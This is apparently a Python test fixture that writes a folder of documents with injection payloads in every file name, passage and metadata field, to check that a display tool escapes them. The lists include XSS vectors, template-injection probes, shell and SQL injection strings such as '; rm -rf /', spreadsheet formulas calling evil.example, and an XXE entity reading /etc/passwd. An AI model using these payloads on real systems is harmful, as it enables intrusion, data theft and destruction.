"""Texts that want to be more than text: a collection whose every field attacks those who show it."""

from __future__ import annotations

import hashlib
from pathlib import Path

import tomlkit

RUN = "alert(1)"

_TAGS = (
    "<script>{r}</script>", "<ScRiPt>{r}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>{r}</script>",
    "</script><script>{r}</script>", "</title><script>{r}</script>", "</textarea><script>{r}</script>", "</style><script>{r}</script>",
    "--><script>{r}</script>", "]]><script>{r}</script>", "<!--<script>{r}</script>", "<svg><script>{r}</script></svg>",
    "<svg><script href=data:text/javascript,{r} />", "<math><script>{r}</script></math>", "<noscript><p title='</noscript><script>{r}</script>'>",
    "<template><script>{r}</script></template>", "<iframe srcdoc='<script>{r}</script>'></iframe>", "<iframe src=javascript:{r}>",
    "<object data=javascript:{r}>", "<embed src=javascript:{r}>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{r}'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<form action=javascript:{r}><button>x", "<isindex action=javascript:{r}>",
    "<a href=javascript:{r}>x</a>", "<a href='java\tscript:{r}'>x</a>", "<a href='&#106;avascript:{r}'>x</a>", "<a href='data:text/html,<script>{r}</script>'>x</a>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example)}}</style>", "<p style='background:url(javascript:{r})'>x",
    "<table background=javascript:{r}>", "<marquee onstart={r}>x", "<xss autofocus tabindex=1 onfocus={r}>", "<svg><use href='data:image/svg+xml,<svg id=x onload={r}>#x'/>",
)  # fmt: skip
_HOLDERS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "details open",
    "select autofocus",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onwheel",
    "onclick",
)
_ATTRIBUTES = (
    '" onmouseover={r} x="', "' onfocus='{r}' autofocus x='", '"><img src=x onerror={r}>', "'><svg onload={r}>", "` onerror={r} `",
    '" style="animation-name:x" onanimationstart="{r}', '\\"><script>{r}</script>', '";{r};//', "';{r};//", "\\';{r};//", "${{{r}}}", "</a><b onclick={r}>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{r}", "JaVaScRiPt:{r}", " javascript:{r}", "java\nscript:{r}", "java\tscript:{r}", "\x01javascript:{r}", "javascript&colon;{r}",
    "vbscript:{r}", "data:text/html,<script>{r}</script>", "data:image/svg+xml,<svg onload={r}>", "//evil.example/x", "/\\evil.example", "https:evil.example",
    "https://evil.example\"onmouseover={r} x=\"", "http://[::1", "file:///etc/passwd", "blob:http://x/1",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>",
    "{{0.__class__.__mro__}}", "{{}}", "{{ctx}}", "%(password)s", "%s%s%s%n", "{{app_entry}}", "{{%config%}}", "$(id)", "`id`", "; rm -rf /", "' OR '1'='1", "'; DROP TABLE facts; --",
    "$ref", "__proto__", "constructor.prototype.x", "[object Object]",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1", "＋1", "－1", "＠x", "|cmd", "%0A=1+1", "'=1+1", "\n=1+1", "\"=1+1", " =1+1",
)  # fmt: skip
_MARKS = (
    "\u202egpj.exe\u202c", "\u2066\u202eabc\u2069", "\u202dleft\u202c", "\u200b\u200b\u200b", "a\u200db\u200cc", "\u2060word\u2060", "\ufeffmark", "\u00adsoft",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x07\x08\x0b\x0c", "line one\r\nInjected: header",
    "\u2028separator\u2029", "e\u0301" * 3 + "\u0300" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\x7f", "\x00nul",
    "W" * 5_000, "\u4e2d" * 3_000, "&lt;script&gt;", "&#60;script&#62;{r}", "%3Cscript%3E", "\\u003cscript\\u003e", "&amp;amp;", "<" * 500, "\"" * 200, "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)  # fmt: skip


def payloads() -> list[str]:
    """Every text, each once."""
    made = [t.format(r=RUN) for t in (*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)]
    made += [f"<{holder} {handler}={RUN}>" for holder in _HOLDERS for handler in _HANDLERS]
    made += [*_FORMULAS, *(m.replace("{r}", RUN) for m in _MARKS)]
    return list(dict.fromkeys(made))


def collection(folder: Path) -> list[str]:
    """A document for each text, which stands in its name, its passage and every field of its sidecar."""
    documents = folder / "documents"
    documents.mkdir(parents=True)
    texts = payloads()
    for i, payload in enumerate(texts):
        inline = " ".join(payload.replace("\0", "\ufffd").split("\n"))
        body = f"{payload.replace(chr(0), chr(0xFFFD))}\n\n{inline} Trade between Vietnam and China reached {i + 1}.5 billion USD in 2023 {inline}\n"
        add(documents, _name(payload, i), body, payload)
    wide = (
        "A" * 500_000
        + "\n\nTrade between Vietnam and China reached 999.5 billion USD in 2022.\n\n"
        + "\u4e2d" * 500_000
        + "\n"
    )
    add(documents, "one-megabyte", wide, "no space")
    return texts


def _name(payload: str, number: int) -> str:
    usable = payload and not payload.startswith(".") and "/" not in payload and "\0" not in payload
    return f"{payload} {number}" if usable and len(payload.encode()) < 180 else f"document {number}"


def add(documents: Path, name: str, body: str, payload: str) -> None:
    data = body.encode()
    (documents / f"{name}.txt").write_bytes(data)
    told = dict.fromkeys(("title", "author", "publisher", "url", "published_how"), payload)
    sidecar = {**told, "lang": "en", "published": "2024-01-01", "sha256": hashlib.sha256(data).hexdigest()}
    (documents / f"{name}.toml").write_text(tomlkit.dumps(sidecar), encoding="utf-8")
